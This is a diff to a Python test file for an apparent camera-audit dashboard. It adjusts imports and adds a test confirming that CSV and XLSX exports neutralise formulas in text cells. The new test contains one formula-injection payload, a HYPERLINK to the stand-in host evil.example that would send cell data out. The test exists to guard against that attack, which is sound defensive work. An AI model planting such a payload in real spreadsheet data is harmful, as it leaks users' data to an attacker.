@@ -27,6 +27,7 @@ from tests.conftest import REPO
 from tests.web.conftest import WebEnv, build_web_env
 from vidaudit.db.models import (
     BranchResultRow,
+    BranchRow,
     ChannelObservationRow,
     CollectionRunRow,
     DailyCheckRow,
@@ -37,9 +38,9 @@ from vidaudit.db.models import (
     SnapshotRow,
     UserRow,
 )
+from vidaudit.evidence.store import EvidenceStore
 from vidaudit.inventory.schema import Policy
 from vidaudit.review.register import Entry, append
-from vidaudit.sampler.evidence import EvidenceStore
 from vidaudit.web.i18n import LANGUAGES, Catalogue
 from vidaudit.web.views.dashboard_data import PROBLEMS, View, dashboard_rows, select_rows
 from vidaudit.web.views.dashboard_detail import (
@@ -636,6 +637,23 @@ def test_xlsx_export_opens_in_openpyxl(dash: WebEnv) -> None:
     assert b1["最大时钟偏差(秒)"] == 75.4
 
 
+def test_exports_neutralise_formulas_in_text_cells(dash: WebEnv) -> None:
+    """A branch name (typed by whoever wrote cameras.yaml) that starts like a formula is
+    written as text in both formats: the one exporter guards every export."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with dash.sessions.begin() as db:
+        row = db.get(BranchRow, "B1")
+        assert row is not None
+        row.name = evil
+    with dash.client_as("sec") as client:
+        text = client.get("/dashboard.csv?sort=branch&dir=asc").content.decode("utf-8-sig")
+        book = load_workbook(io.BytesIO(client.get("/dashboard.xlsx?sort=branch&dir=asc").content))
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1] == "'" + evil
+    cell = book.active.cell(2, 2)
+    assert cell.value == "'" + evil and cell.data_type == "s"
+
+
 # --- languages ---------------------------------------------------------------------------
 
 
@@ -703,7 +721,7 @@ def test_every_rule_explanation_fills_its_placeholders(catalogue: Catalogue, lan
 
 
 def test_timeline_marks_gaps_shortfall_and_business_hours(dash: WebEnv) -> None:
-    from vidaudit.web.views.dashboard_data import branch_schedule
+    from vidaudit.inventory.calendar import branch_calendar
 
     with dash.sessions() as db:
         obs = (
@@ -716,7 +734,7 @@ def test_timeline_marks_gaps_shortfall_and_business_hours(dash: WebEnv) -> None:
 
         branch = db.get(BranchRow, "B1")
         assert obs is not None and branch is not None
-        timeline = recording_timeline(obs, branch_schedule(branch, None), Policy(), "Asia/Shanghai")
+        timeline = recording_timeline(obs, branch_calendar(branch, None), Policy(), "Asia/Shanghai")
     assert timeline is not None and len(timeline.days) == 30
     kinds = [{s.kind for s in day.segments} for day in timeline.days]
     assert kinds[0] == {"none"}  # 29 days ago: before the oldest footage (12.5 days)
